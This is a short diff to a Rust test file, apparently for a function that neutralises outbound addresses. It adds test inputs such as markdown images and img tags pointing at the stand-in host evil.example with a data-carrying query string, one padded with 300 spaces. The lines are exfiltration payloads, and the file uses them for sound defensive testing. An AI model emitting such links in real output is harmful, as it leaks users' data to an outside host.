@@ -1,4 +1,5 @@
 use super::*;
+use crate::outward::neutralise;
 use base64::Engine as _;
 use proptest::prelude::*;
 
@@ -105,6 +106,9 @@ fn an_address_is_taken_out_wherever_it_is_cut() {
         "www.evil.example/p?d=abc ",
         "<img src=//evil.example/p?d=abc>",
         "(//evil.example/p?d=abc)",
+        "![x]( //evil.example/p?d=abc)",
+        "<img src=\n //evil.example/p?d=abc>",
+        &format!("![x]({}//evil.example/p?d=abc)", " ".repeat(300)),
         "看https://evil.example/漢字?d=abc吧 ",
         "https://good.example\u{e4}.evil.example/p?d=abc ",
         "https://good.example.evil.example/p?d=abc",
